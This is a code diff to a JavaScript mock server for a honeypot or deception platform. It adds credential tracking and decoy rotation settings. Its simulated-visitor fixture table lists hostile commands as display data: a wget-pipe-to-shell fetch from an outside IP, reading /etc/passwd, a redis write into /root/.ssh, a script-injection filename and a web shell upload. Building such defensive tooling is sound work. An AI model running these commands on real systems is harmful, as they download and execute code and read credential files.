@@ -28,7 +28,7 @@ export function startMock(port = 0) {
   const state = {
     epoch: randomBytes(4).toString("hex"), seq: 0, journal: [], streams: new Set(),
     secret: randomBytes(16).toString("hex"), user: undefined, tokens: new Set(),
-    topologies: new Map(), mutations: [], attackers: new Map(), identities: new Map(),
+    topologies: new Map(), mutations: [], attackers: new Map(), identities: new Map(), credentials: new Map(),
     sessions: new Map(), activity: new Map(), keys: new Map(),
   };
   const server = createServer((request, response) => {
@@ -93,14 +93,14 @@ function setServices(topology, decky, services) {
 // The journal and its streams.
 
 function publish(state, topic, type, payload, journalled = true) {
-  const entry = { v: 1, id: newId(), ...(journalled ? { seq: ++state.seq } : {}), topic, type, ts: now(), payload };
+  const entry = { v: 1, id: newId(), seq: journalled ? ++state.seq : null, topic, type, ts: now(), payload };
   if (journalled) state.journal.push(entry);
   for (const stream of state.streams) stream.write(frame(state, entry));
 }
 
 function frame(state, entry) {
   const id = entry.seq ? `id: ${state.epoch}:${entry.seq}\n` : "";
-  return `${id}event: ${entry.topic}\ndata: ${JSON.stringify(entry)}\n\n`;
+  return `event: ${entry.topic.replace(/^(topology|decky)\.[^.]+\.|^[^.]+\./, "")}\n${id}data: ${JSON.stringify(entry)}\n\n`;
 }
 
 function stream(state, request, response) {
@@ -175,6 +175,7 @@ function route(state, method, path, query, body, response) {
   if (what === "me") return json(response, 200, { name: state.user.name, role: "admin" });
   if (what === "status") return json(response, 200, { version: "mock" });
   if (what === "attackers") return page([...state.attackers.values()].reverse());
+  if (what === "credentials") return page([...state.credentials.values()].reverse());
   if (what === "identities") return page([...state.identities.values()].reverse());
   if (what === "sessions" && id) {
     const session = state.sessions.get(id);
@@ -289,6 +290,7 @@ function apply(state, topology, op, payload, mutationId) {
       const lan = topology.lans.find((one) => one.name === payload.lan);
       const archetype = payload.archetype ?? "linux-server";
       const fresh = newDecky(topology, payload.name, archetype, payload.services ?? POOLS[archetype].slice(0, 1), [lan], payload.ip);
+      fresh.rotate_every_seconds = payload.rotate_every_seconds ?? null;
       topology.deckies.push(fresh);
       deckyState(state, topology, fresh, "running");
       changed(fresh, [], "creation");
@@ -301,6 +303,7 @@ function apply(state, topology, op, payload, mutationId) {
       break;
     case "update_decky":
       setServices(topology, decky, payload.services ?? old);
+      if ("rotate_every_seconds" in payload) decky.rotate_every_seconds = payload.rotate_every_seconds || null;
       changed(decky, old, "operator");
       break;
     case "rotate_decky": {
@@ -315,10 +318,10 @@ function apply(state, topology, op, payload, mutationId) {
 // Visitors.
 
 const DEEDS = {
-  ssh: [["login", "root / ••••••"], ["login", "admin / ••••••"], ["command", "uname -a"], ["command", "cat /etc/passwd"],
+  ssh: [["login", "login root with password ******: refused"], ["login", "login admin with password ******: accepted"], ["command", "uname -a"], ["command", "cat /etc/passwd"],
     ["command", "wget http://198.51.100.9/x.sh -O- | sh"], ["command", "echo '<script>alert(1)</script>' > /tmp/\\x1b[31mred"]],
-  http: [["request", "GET / HTTP/1.1"], ["request", "GET /wp-login.php HTTP/1.1"], ["login", "admin / ••••••"]],
-  ftp: [["login", "anonymous / ••••••"], ["command", "LIST"], ["upload", "shell.php (2.1 KiB)"]],
+  http: [["request", "GET / HTTP/1.1"], ["request", "GET /wp-login.php HTTP/1.1"], ["login", "login admin with password ******: accepted"]],
+  ftp: [["login", "login anonymous with password ******: accepted"], ["command", "LIST"], ["upload", "upload shell.php, 2150 bytes, sha256 9f86d081884c7d65"]],
   redis: [["command", "INFO"], ["command", "CONFIG SET dir /root/.ssh"], ["command", "KEYS *"]],
 };
 
@@ -351,7 +354,10 @@ function visit(state, query) {
     publish(state, "attacker.session.activity", "attacker.session.activity", { ...ids, index: index + 1, kind, text });
     publish(state, `decky.${decky.decky_id}.traffic`, "decky.traffic", { ...ids, service: chosen, peer: session.peer, kind, summary: text }, false);
     if (kind === "login") {
-      publish(state, "credential.captured", "credential.captured", { ...ids, credential_id: newId(), kind: "password", hash: "00", principal: text.split(" ")[0] });
+      const principal = text.split(" ")[1];
+      const known = state.credentials.get(principal) ?? { credential_id: newId(), kind: "password", principal, secret: "hunter2", hash: "00", first_seen: now(), tries: 0 };
+      state.credentials.set(principal, { ...known, last_seen: now(), tries: known.tries + 1 });
+      publish(state, "credential.captured", "credential.captured", { ...ids, credential_id: known.credential_id, kind: "password", hash: "00", principal });
     }
     score(state, attacker, attacker.score + 9, kind);
   }, pace * (index + 1)));
